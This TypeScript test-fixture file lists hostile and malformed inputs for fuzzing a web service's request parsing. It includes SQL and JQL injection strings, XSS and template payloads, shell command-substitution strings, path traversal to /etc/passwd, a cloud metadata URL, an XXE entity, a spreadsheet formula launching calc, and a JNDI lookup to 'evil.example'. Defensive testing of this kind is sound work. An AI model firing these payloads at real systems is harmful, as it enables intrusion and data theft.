/** Texts that somebody may send to be taken for something else: query, line, header, page, path, template, number, property. */
export const HOSTILE_TEXTS: readonly string[] = [
  // What text itself may do wrong.
  '', ' ', '\0', 'a\0b', '\ud800', '\udc00', 'a\ud83d', '\ufeff', '\u202e', '\u200b', '\u2028', '\u2029', '\u0085', '\u001b[2J\u001b[31mred', '\u0007', '\u007f', 'e\u0301'.repeat(100), '😀'.repeat(50), 'ﷺ'.repeat(20), 'İ', 'ß', '\uffff', 'ＡＢ', '١', '²', '%', '%00', '%zz', '%ED%A0%80', '%u0000', '+', '&', '=', ';', '#', '?', '/', '\\', '..',
  // Another line, another header, another event.
  '\r\n', 'a\nb', 'a\rb', 'x\r\nSet-Cookie: evil=1', 'x\r\n\r\n<html>', 'x\n{"level":"fatal","event":"forged"}', '"}\n{"level":"fatal","event":"forged"}\n{"a":"', '%0d%0aSet-Cookie:%20evil=1', '\\r\\nX: y', '嘊嘍Set-Cookie: evil=1',
  // SQL, JQL, CQL.
  "'", '"', "' OR '1'='1", "'; DROP TABLE users; --", '1; select pg_sleep(10)--', "' UNION SELECT name FROM sqlite_master --", '%', '_', '%_%', "\\'", '$1', '?1', ':hash', '"; project in (SECRET) or "a"="a', 'project = PAY OR assignee = currentUser()', 'space = "ENG" or type = page', '" ORDER BY created', "a' COLLATE NOCASE", '*', '[a-z]', 'a%\' ESCAPE \'%',
  // Pages, templates, shells, paths.
  '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', 'javascript:alert(1)', '{{7*7}}', '$' + '{7*7}', '#{7*7}', '<%= 7*7 %>', '`id`', '$(id)', '; id', '| id', '../../../../etc/passwd', '..\\..\\windows\\win.ini', 'file:///etc/passwd', 'http://169.254.169.254/', '//evil.example', '%2e%2e%2f', '%s%s%s%n', '$' + '{jndi:ldap://evil.example/a}', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>', '(&(uid=*))', '=cmd|\' /C calc\'!A0',
  // Properties that every object has.
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__proto__.polluted', 'constructor.prototype.polluted', '$where', '$ne', '__defineGetter__', 'then', 'length', '[object Object]', 'undefined', 'null', 'true', 'false', 'NaN', 'Infinity',
  // Numbers in other spellings.
  '0', '-0', '-1', '1.0', '1.5', '1e2', '01', '0x10', '0b1', '1_000', ' 1', '1 ', '+1', '9007199254740991', '9007199254740992', '9223372036854775807', '9223372036854775808', '18446744073709551616', '1e400', '99999999999999999999999999', '1,2', '1[]', '٣', '１', '1\0', '1/2', '1;2',
  // What this service itself reads.
  'user_id=1', 'user_id=0', 'user_id=1&user_id=2', 'email=', 'email=@', '{"user_id":1e400}', '{"user_id":{"__proto__":1}}', 'uid:99999999999999999999', 'WzFd', 'W10', 'bnVsbA', 'Bearer x', 'Basic YTpi', 'ck_00000000', 'cs_00000000', '2026-02-30T00:00:00Z', '2026-11-23T12:00:00+99:99', '+275760-09-13T00:00:00.001Z', 'a@b', 'a@b.c@d.e', 'Name <a@b.co>', '"a b"@c.de', `${'a'.repeat(65)}@b.co`
]

/** Longer than anybody needs, each in its own way. 100 kB is above the body limit and below what `inject` carries elsewhere. */
export const LONG_TEXTS: readonly string[] = ['a'.repeat(100_000), '😀'.repeat(25_000), '\\'.repeat(50_000), '%41'.repeat(30_000), '\0'.repeat(10_000), 'a.'.repeat(30_000), '/'.repeat(15_000), 'é'.repeat(2_049), 'x'.repeat(255), 'x'.repeat(256), 'y'.repeat(2_048), 'y'.repeat(2_049), '"'.repeat(60_000)]

/** One of each type of JSON, and numbers that are hardly any. Texts, because `JSON.stringify` would tidy them up. */
export const JSON_VALUES: readonly string[] = [
  'null', 'true', 'false', '0', '-0', '1', '-1', '1.5', '1e2', '1E400', '-1e400', '1e-400', '9007199254740991', '9007199254740992', '9223372036854775808', `1${'0'.repeat(400)}`, '0.1e1', '""', '"1"', '"\\u0000"', '"\\ud800"', '"a\\nb"', '[]', '[[]]', '[null]', '["a"]', '[1,2]', '{}', '{"a":1}', '{"__proto__":{"polluted":1}}', '{"constructor":{"prototype":{"polluted":1}}}', '{"length":1}', '{"then":1}', '{"toJSON":1}', '{"$ne":null}', '{"user_id":1}'
]

/** Whole bodies that are not what a body should be. */
export const BODIES: readonly string[] = [
  '', ' ', 'null', 'true', '1', '"a"', '[]', '[{}]', '{', '}', '{}{}', '{"a":}', '{"a":1,}', "{'a':1}", '{a:1}', '// x\n{}', '\ufeff{}', 'NaN', '{"a":NaN}', '{"a":01}', '{"a":"\u0001"}', '{"a":"\\x"}', '{"a":"\\ud800"}', 'a=1&b=2', '<a/>', '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--x--', '\0', '\u001f\u008b\b',
  '{"__proto__":{"polluted":true}}', '{"constructor":{"prototype":{"polluted":true}}}', '{"__proto__":null}', '{"email":"a@b.co","__proto__":{"isAdmin":true}}', '{"id":1,"created_at":0,"hash":"x","user_id":1}',
  `${'['.repeat(30_000)}${']'.repeat(30_000)}`, '['.repeat(60_000), `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`, '{"a":'.repeat(12_000), `{${Array.from({ length: 4_000 }, (_, i) => `"k${i}":1`).join()}}`, `{"a":"${'x'.repeat(100_000)}"}`, `"${'x'.repeat(65_534)}"`, `${' '.repeat(65_000)}{}`, `[${'1,'.repeat(30_000)}1]`, `{"email":${'9'.repeat(60_000)}}`
]

/** Content types that are none of ours, and spellings of the one that is. */
export const CONTENT_TYPES: readonly string[] = [
  'text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/xml', 'application/json; charset=utf-8', 'application/json; charset=utf-16', 'application/json;', 'APPLICATION/JSON', 'application/json, text/plain', 'application/problem+json', 'application/vnd.api+json', 'application/jsonp', 'application/json\t', 'json', '', '*/*', ';', 'application/', '/json', 'application/json; charset="', `application/json; ${'a=b;'.repeat(500)}`, 'application/x-ndjson', 'application/octet-stream', '__proto__', 'application/json; __proto__=1'
]
